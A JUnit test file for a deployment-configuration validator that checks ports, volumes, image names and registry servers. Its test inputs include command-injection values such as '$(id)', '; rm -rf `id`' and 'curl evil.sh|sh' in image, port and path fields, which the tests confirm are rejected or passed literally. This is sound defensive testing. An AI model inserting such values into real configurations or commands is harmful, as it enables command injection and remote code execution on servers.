package dev.dhow.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ValueFormatsTest {
    private static final String BASE = """
            service: app
            image: dhh/app
            registry: {username: dhh, password: [PASSWORD]}
            servers: [1.1.1.1]
            builder: {arch: amd64}
            """;

    /** Problems the validator finds in BASE deep-merged with {@code overlay}. */
    private static List<String> problems(String overlay) {
        Map<String, Object> raw = DeepMerge.merge(YamlReader.readMapping("base", BASE), YamlReader.readMapping("overlay", overlay));
        return new Validator().validate(raw);
    }

    private static void assertProblems(String overlay, String... expected) {
        assertEquals(List.of(expected), problems(overlay));
    }

    @Test
    void ordinaryPortsVolumesPathsAndImagesPass() {
        assertProblems("""
                image: ghcr.io/dhh/app
                registry: {server: "localhost:5555"}
                volumes: [/data:/data, "/logs:/var/log:ro,z", storage:/rails/storage, /anonymous, ./relative:/x]
                proxy: {run: {registry: registry.example.com:443, repository: basecamp/kamal-proxy, version: v0.9.2}}
                accessories:
                  db:
                    image: mysql:8.0
                    host: 1.1.1.2
                    port: 3306
                    volumes: ["/srv/my data:/var/lib/mysql"]
                    directories: ["data:/var/lib/mysql", "/srv/backups:/backups:z", {local: conf, remote: /etc/conf, mode: "0700"}]
                    files: ["config/my.cnf:/etc/mysql/my.cnf:ro", {local: config/key, remote: /etc/key}]
                  cache:
                    image: registry.example.com:5000/team/redis@sha256:0123456789abcdef0123456789abcdef
                    host: 1.1.1.3
                    port: "127.0.0.1:6379:6379"
                  dns:
                    image: coredns/coredns:1.11.1
                    registry: {server: registry.digitalocean.com/team, username: u, password: p}
                    host: 1.1.1.4
                    port: "[::1]:53:53/udp"
                  ranges:
                    image: busybox
                    host: 1.1.1.5
                    port: "127.0.0.1::8000-8010"
                """);
    }

    @Test
    void portsWithShellSyntaxOrOutOfRangeAreRejectedWithTheirKeyPath() {
        assertProblems("""
                accessories:
                  db: {image: postgres, host: 1.1.1.2, port: "5432$(id):5432"}
                  cache: {image: redis, host: 1.1.1.2, port: "70000:6379"}
                  web: {image: nginx, host: 1.1.1.2, port: "80/tcp"}
                """,
                "accessories/db/port: should be a port or [ip:]host_port:container_port[/protocol], e.g. 127.0.0.1:5432:5432 (got \"5432$(id):5432\")",
                "accessories/cache/port: ports should be between 1 and 65535 (got \"70000:6379\")",
                "accessories/web/port: should be a port or [ip:]host_port:container_port[/protocol], e.g. 127.0.0.1:5432:5432 (got \"80/tcp\")");
    }

    @Test
    void hostileCharactersInAnAbsoluteHostPathAreAcceptedBecauseTheyArePassedLiterally() {
        assertProblems("""
                volumes: ["/v$(touch x); rm -rf `id`:/v"]
                accessories:
                  db: {image: postgres, host: 1.1.1.2, directories: ["my data$(touch x):/var/lib/data"]}
                """);
    }

    @Test
    void malformedVolumesAreRejected() {
        assertProblems("""
                volumes: ["/data:data", "/a:/b:rw,bogus", ":/x", "/a:/b:ro:z", "my volume:/x"]
                """,
                "volumes/0: the container path should be absolute (got \"/data:data\")",
                "volumes/1: unknown mount option \"bogus\" (one of ro, rw, z, Z, nocopy, shared, rshared, slave, "
                        + "rslave, private, rprivate, consistent, cached, delegated) (got \"/a:/b:rw,bogus\")",
                "volumes/2: should be host_path:container_path[:options] or a volume name in place of the host path (got \":/x\")",
                "volumes/3: should be host_path:container_path[:options] or a volume name in place of the host path (got \"/a:/b:ro:z\")",
                "volumes/4: the host side should be an absolute path or a volume name ([A-Za-z0-9][A-Za-z0-9_.-]*) (got \"my volume:/x\")");
    }

    @Test
    void hostPathsThatRelyOnShellExpansionAreRejectedWithAHint() {
        String hint = "dhow passes values to the server literally, so $PWD, $HOME and ~ are not expanded; write an absolute path"
                + " (accessory directories without a leading / already live under the home directory)";
        assertProblems("""
                volumes: ["$PWD/data:/data", "${HOME}/x:/x", "~/y:/y"]
                accessories:
                  db: {image: postgres, host: 1.1.1.2, directories: ["$PWD/db:/var/lib/db", {local: "~/z", remote: /z}]}
                """,
                "volumes/0: " + hint + " (got \"$PWD/data:/data\")",
                "volumes/1: " + hint + " (got \"${HOME}/x:/x\")",
                "volumes/2: " + hint + " (got \"~/y:/y\")",
                "accessories/db/directories/0: " + hint + " (got \"$PWD/db:/var/lib/db\")",
                "accessories/db/directories/1/local: " + hint + " (got \"~/z\")");
    }

    @Test
    void accessoryDirectoriesAndFilesNeedAnAbsoluteContainerPath() {
        assertProblems("""
                accessories:
                  db:
                    image: postgres
                    host: 1.1.1.2
                    directories: [data, "data:var/lib", {local: data}]
                    files: ["my.cnf:etc/my.cnf", {local: "", remote: /etc/x, options: "rx"}]
                """,
                "accessories/db/directories/0: should be local_path:container_path[:options] (got \"data\")",
                "accessories/db/directories/1: the container path should be absolute (got \"data:var/lib\")",
                "accessories/db/directories/2/remote: the container path should be absolute (got \"\")",
                "accessories/db/files/0: the container path should be absolute (got \"my.cnf:etc/my.cnf\")",
                "accessories/db/files/1/local: is required (got \"\")",
                "accessories/db/files/1/options: unknown mount option \"rx\" (one of ro, rw, z, Z, nocopy, shared, rshared, "
                        + "slave, rslave, private, rprivate, consistent, cached, delegated) (got \"rx\")");
    }

    @Test
    void imageReferencesAndRegistryServersAreChecked() {
        assertProblems("""
                image: "dhh/app:latest"
                registry: {server: "https://ghcr.io"}
                proxy: {run: {repository: "basecamp/kamal proxy", version: "v1;id"}}
                servers:
                  web:
                    hosts: [1.1.1.1]
                    proxy: {run: {registry: "reg istry"}}
                accessories:
                  db:
                    image: "postgres$(id)"
                    host: 1.1.1.2
                    registry: {server: "bad server", username: u, password: p}
                """,
                // registry servers are the validator's (ValueRules.registryServer), so they come first
                "servers/web/proxy/run/registry: \"reg istry\" is not a registry server; write host[:port], e.g. ghcr.io or registry.example.com:5000 (no https://)",
                "registry/server: \"https://ghcr.io\" is not a registry server; write host[:port], e.g. ghcr.io or registry.example.com:5000 (no https://)",
                "accessories/db/registry/server: \"bad server\" is not a registry server; write host[:port], e.g. ghcr.io or registry.example.com:5000 (no https://)",
                "image: should be an image repository without a tag, e.g. owner/app or ghcr.io/owner/app (got \"dhh/app:latest\")",
                "proxy/run/repository: should be an image repository, e.g. basecamp/kamal-proxy (got \"basecamp/kamal proxy\")",
                "proxy/run/version: should be an image tag, e.g. v0.9.2 (got \"v1;id\")",
                "accessories/db/image: should be an image reference, e.g. mysql:8.0 or ghcr.io/owner/name:tag (got \"postgres$(id)\")");
    }

    @Test
    void newlinesInARejectedValueAreShownEscapedSoTheMessageStaysOnOneLine() {
        assertProblems("accessories: {db: {image: postgres, host: 1.1.1.2, port: \"5432\\n:5432\"}}",
                "accessories/db/port: should be a port or [ip:]host_port:container_port[/protocol], e.g. 127.0.0.1:5432:5432 (got \"5432\\n:5432\")");
    }

    @Test
    void erbFedValuesAreCheckedAfterRendering() {
        Path dir = Path.of("src/test/resources/config/erb_fed_hostile_values");
        Map<String, String> ci = Map.of(
                "APP_IMAGE", "dhh/app;curl evil.sh|sh",
                "DB_IMAGE", "postgres:16",
                "DB_PORT", "5432$(id):5432",
                "DB_VOLUME", "/srv/db`id`:/var/lib/postgresql/data",
                "DB_DIRECTORY", "$PWD/conf:/etc/conf");
        ConfigurationException e = assertThrows(ConfigurationException.class,
                () -> new ConfigLoader(dir, ci, p -> Map.of()).load("config/deploy.yml", Optional.empty()));
        assertEquals(List.of(
                "image: should be an image repository without a tag, e.g. owner/app or ghcr.io/owner/app (got \"dhh/app;curl evil.sh|sh\")",
                "accessories/db/port: should be a port or [ip:]host_port:container_port[/protocol], e.g. 127.0.0.1:5432:5432 (got \"5432$(id):5432\")",
                "accessories/db/directories/0: dhow passes values to the server literally, so $PWD, $HOME and ~ are not expanded;"
                        + " write an absolute path (accessory directories without a leading / already live under the home directory)"
                        + " (got \"$PWD/conf:/etc/conf\")"), e.problems());
    }
}
